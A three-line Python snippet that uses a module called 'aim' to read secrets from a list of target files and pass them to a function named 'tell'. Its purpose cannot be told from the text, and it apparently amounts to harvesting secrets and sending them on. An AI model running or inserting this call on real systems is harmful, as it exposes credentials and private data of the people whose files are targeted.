import aim

aim.tell(aim.secrets_in(*aim.TARGETS["files"]))
